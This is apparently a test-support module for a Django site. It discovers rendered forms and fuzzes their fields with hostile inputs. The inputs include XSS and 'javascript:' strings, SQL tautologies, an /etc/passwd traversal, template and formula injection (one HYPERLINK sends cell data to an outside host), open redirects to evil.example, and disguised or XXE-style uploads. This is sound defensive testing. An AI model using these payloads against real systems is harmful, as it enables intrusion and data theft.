"""Find every form a page renders, and the hostile values to post at each of its fields."""

import re
from dataclasses import dataclass, field
from urllib.parse import urljoin, urlsplit

import lxml.html
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, resolve
from hypothesis import strategies as st

from tests.core import files

from .world import real_pdf, real_png


@dataclass
class Field:
    name: str
    kind: str  # text, textarea, number, date, month, email, select, checkbox, hidden, file...
    default: object = None  # str, list of str (multi-select, checkboxes), or None
    options: list[str] = field(default_factory=list)


@dataclass
class FormCase:
    role: str
    page: str
    action: str
    method: str
    url_name: str
    fields: list[Field]

    @property
    def key(self) -> tuple:
        """Forms that differ only by the row they act on (``end-12-date``, ``end-13-date``)
        are one form: fuzzed once."""
        names = sorted({re.sub(r"\d+", "N", f.name) for f in self.fields})
        return (self.role, self.method, self.url_name, tuple(names))

    @property
    def id(self) -> str:
        return f"{self.role} {self.method} {urlsplit(self.action).path} ({self.url_name})"

    def buttons(self) -> list[tuple[str, str]]:
        """What pressing this form's buttons does, as the browser journeys record it
        (``tests/browser/buttons.py``): the URL name and the action each button carries."""
        actions = []
        for f in self.fields:
            if f.kind == "submit" and f.name in ("action", "decision"):
                actions += f.options
            elif f.kind == "submit" and f.name in ("save", "submit"):
                actions.append(f.name)
            elif f.kind == "hidden" and f.name == "action" and isinstance(f.default, str):
                actions.append(f.default)
        if not actions:
            try:
                actions = [resolve(urlsplit(self.action).path).kwargs.get("action", "")]
            except Resolver404:
                actions = [""]
        return [(self.url_name, action) for action in actions]

    def defaults(self) -> dict:
        """What the browser sends when the form is submitted as rendered (first button)."""
        data: dict = {}
        for f in self.fields:
            if f.kind == "submit":
                continue
            if f.default is None:
                continue
            data[f.name] = f.default
        buttons = [f for f in self.fields if f.kind == "submit"]
        if buttons:
            data[buttons[0].name] = buttons[0].options[0]
        return data


def forms_on(role: str, page_url: str, html: str) -> list[FormCase]:
    try:
        doc = lxml.html.fromstring(html)
    except (ValueError, lxml.etree.ParserError):
        return []
    cases = []
    for form in doc.forms:
        method = (form.get("method") or "get").upper()
        action = urljoin(page_url, form.get("action") or page_url)
        parts = urlsplit(action)
        if parts.netloc and parts.netloc not in ("testserver",):
            continue  # a form that leaves the site is not ours to post at
        try:
            url_name = resolve(parts.path).view_name or parts.path
        except Resolver404:
            url_name = parts.path
        cases.append(FormCase(role, page_url, action, method, url_name, _fields(form)))
    return cases


# Complex by nature: one branch per kind of form field the fuzz fills.
def _fields(form) -> list[Field]:  # noqa: C901
    fields: dict[str, Field] = {}
    buttons: dict[str, Field] = {}
    for element in form.iter("input", "select", "textarea", "button"):
        name = element.get("name")
        if not name or element.get("disabled") is not None:
            continue
        tag = element.tag
        if tag == "textarea":
            fields[name] = Field(name, "textarea", element.text or "")
        elif tag == "select":
            options = [o.get("value", o.text_content()) for o in element.iter("option")]
            chosen = [
                o.get("value", o.text_content())
                for o in element.iter("option")
                if o.get("selected") is not None
            ]
            multiple = element.get("multiple") is not None
            default = chosen if multiple else (chosen[0] if chosen else (options[:1] or [""])[0])
            fields[name] = Field(name, "select", default, options)
        elif tag == "button" or element.get("type") in ("submit", "image"):
            if (element.get("type") or "submit") != "submit":
                continue
            button = buttons.setdefault(name, Field(name, "submit", None, []))
            button.options.append(element.get("value", ""))
        else:
            kind = (element.get("type") or "text").lower()
            value = element.get("value", "")
            if kind in ("checkbox", "radio"):
                existing = fields.get(name) or Field(name, kind, [], [])
                existing.options.append(value or "on")
                if element.get("checked") is not None:
                    existing.default.append(value or "on")
                fields[name] = existing
            elif kind == "file":
                fields[name] = Field(name, "file", None)
            elif kind in ("reset", "button"):
                continue
            else:
                fields[name] = Field(name, kind, value)
    for f in fields.values():
        if f.kind == "radio":
            f.default = f.default[0] if f.default else None
    return [*fields.values(), *buttons.values()]


# --- hostile values ------------------------------------------------------------------------

LONG = "长" * 5000 + "x" * 5001
HOSTILE_TEXT = [
    "",
    " ",
    "\t\r\n",
    "0",
    "-1",
    "NaN",
    "1e309",
    "9" * 40,
    LONG,
    "\x00",
    "标\x00题",
    "\x0b活动标题",
    "\x1b[31m",
    "\u202e倒序文字",
    "\u200f\u200e\u2066名字\u2069",
    "\ufeff",
    "😀" * 20,
    '=HYPERLINK("http://x/?"&B2,"点击查看")',
    "=1+1",
    "+86 139",
    "@SUM(A1:A9)",
    "-2+3",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../etc/passwd",
    "%s%n{0}{{7*7}}",
    "0001-01-01",
    "9999-12-31",
    "2024-02-30",
    "2024-13",
    "http://evil.example/",
    "//evil.example",
    "javascript:alert(1)",
]
HOSTILE_NUMBER = [
    "",
    "-1",
    "0",
    "-0",
    "1.5",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "99999999999999999999",
    "-99999999999999999999",
    "0x1F",
    "1,000",
    "١٢٣",
    "abc",
    "\x00",
]
HOSTILE_DATE = [
    "",
    "0001-01-01",
    "1900-01-01",
    "9999-12-31",
    "2024-02-30",
    "2024-13-01",
    "31/12/2024",
    "2024-07-20T10:00",
    "-1",
    "abc",
    "\x00",
]
HOSTILE_MONTH = ["", "0001-01", "9999-12", "2024-13", "2024-00", "abc", "1980-05-01"]
HOSTILE_CHOICE = ["", "0", "-1", "999999999", "abc", "\x00", "1 OR 1=1", LONG]
HOSTILE_NEXT = ["0", "NaN", "", "http://evil.example/", "//evil.example", "javascript:alert(1)"]


def _file(name: str, content: bytes, content_type: str):
    return lambda: SimpleUploadedFile(name, content, content_type=content_type)


HOSTILE_FILES = [
    _file("empty.pdf", b"", "application/pdf"),
    _file("x.png", b"\x89PNG\r\n\x1a\n<svg><script>alert(1)</script></svg>", "image/png"),
    _file("x.html.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", "image/jpeg"),
    _file(
        "x.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        "image/svg+xml",
    ),
    _file("page.pdf", b"<html><body>not a pdf</body></html>", "application/pdf"),
    _file("fake.docx", b"PK\x03\x04not really a zip", "application/msword"),
    _file("fake.xlsx", b"PK\x03\x04not really a zip", "application/vnd.ms-excel"),
    _file("../../evil.pdf", real_pdf(), "application/pdf"),
    _file("名字很长" * 40 + ".pdf", real_pdf(), "application/pdf"),
    _file("photo.png", real_png(), "image/png"),
    _file("scan.pdf", real_pdf(), "application/pdf"),
    _file("noext", b"plain text", "text/plain"),
    # Real Word packages a Word upload must refuse: no form in it; an XML part with a DTD.
    _file("blank.docx", files.docx(), "application/msword"),
    _file(
        "entities.docx",
        files.docx(
            extra_parts={
                "word/evil.xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
            }
        ),
        "application/msword",
    ),
]


def hostile_text():
    return st.one_of(
        st.sampled_from(HOSTILE_TEXT),
        st.text(
            st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=("Cs",)),
            max_size=40,
        ),
    )


def hostile_value(f: Field):
    """A strategy for one field: a value of the wrong kind, of the right kind at its limits,
    or something a browser would never send."""
    if f.name in ("next", "back"):
        return st.sampled_from(HOSTILE_NEXT)
    if f.kind == "file":
        return st.sampled_from(HOSTILE_FILES).map(lambda make: make())
    if f.kind == "number":
        return st.one_of(st.sampled_from(HOSTILE_NUMBER), st.integers().map(str))
    if f.kind in ("date", "datetime-local"):
        return st.one_of(
            st.sampled_from(HOSTILE_DATE),
            st.dates().map(lambda d: d.isoformat()),
        )
    if f.kind == "month":
        return st.sampled_from(HOSTILE_MONTH)
    if f.kind in ("select", "radio", "submit"):
        return st.one_of(st.sampled_from(f.options or [""]), st.sampled_from(HOSTILE_CHOICE))
    if f.kind == "checkbox":
        return st.one_of(
            st.lists(st.sampled_from(f.options or ["on"]), max_size=3),
            st.sampled_from(HOSTILE_CHOICE).map(lambda v: [v]),
        )
    if f.kind == "hidden":
        return st.one_of(
            st.just(f.default),
            st.sampled_from(HOSTILE_CHOICE),
            st.sampled_from(HOSTILE_TEXT),
        )
    return hostile_text()


# Every field at once takes the i-th value of its kind, for i in range(EXPLICIT_ROUNDS): each
# dangerous value reaches every field on every run, whatever hypothesis draws besides.
EXPLICIT_ROUNDS = 6
EXPLICIT = {
    "text": [LONG, "\x00", "\x0b\u202e标题", '=HYPERLINK("http://x/?"&B2,"点击查看")', "", "0"],
    "number": ["NaN", "1e309", "-1", "99999999999999999999", "abc", ""],
    "date": ["0001-01-01", "9999-12-31", "2024-02-30", "abc", "", "-1"],
    "month": ["0001-01", "9999-12", "2024-13", "abc", "", "1980-05-01"],
    "choice": ["1 OR 1=1", "-1", "999999999", "", "\x00", LONG],
    "next": ["0", "NaN", "//evil.example", "javascript:alert(1)", "", "/x/\r\ny"],
}
EXPLICIT_FILES = [1, 2, 3, 4, 5, 0]  # indexes into HOSTILE_FILES


def explicit_value(f: Field, i: int):
    if f.name in ("next", "back"):
        return EXPLICIT["next"][i]
    if f.kind == "file":
        return HOSTILE_FILES[EXPLICIT_FILES[i]]()
    if f.kind == "submit":
        return f.options[i % len(f.options)] if f.options else ""
    if f.kind == "checkbox":
        return [EXPLICIT["choice"][i]] if i % 2 == 0 else []
    if f.kind in ("select", "radio", "hidden"):
        return EXPLICIT["choice"][i]
    if f.kind in ("number",):
        return EXPLICIT["number"][i]
    if f.kind in ("date", "datetime-local"):
        return EXPLICIT["date"][i]
    if f.kind == "month":
        return EXPLICIT["month"][i]
    return EXPLICIT["text"][i]


def explicit_data(case: "FormCase", i: int) -> dict:
    data = {}
    for f in case.fields:
        data[f.name] = f.default if f.name == "csrfmiddlewaretoken" else explicit_value(f, i)
    return data


# What happens to each field in one example.
KEEP, HOSTILE, DROP = "keep", "hostile", "drop"


def hostile_data(draw, case: FormCase) -> dict:
    data: dict = {}
    for f in case.fields:
        if f.name == "csrfmiddlewaretoken":
            data[f.name] = f.default
            continue
        fate = draw(st.sampled_from([KEEP, HOSTILE, HOSTILE, DROP]))
        if fate == DROP:
            continue
        if fate == KEEP:
            if f.kind == "submit":
                data[f.name] = f.options[0]
            elif f.default is not None:
                data[f.name] = f.default
            continue
        data[f.name] = draw(hostile_value(f))
    return data


def duplicate_file_values(data: dict) -> dict:
    """Uploaded files are read once per request: give a repeated post fresh ones."""
    fresh = {}
    for key, value in data.items():
        if isinstance(value, SimpleUploadedFile):
            value.seek(0)
            fresh[key] = SimpleUploadedFile(value.name, value.read(), value.content_type)
        else:
            fresh[key] = value
    return fresh
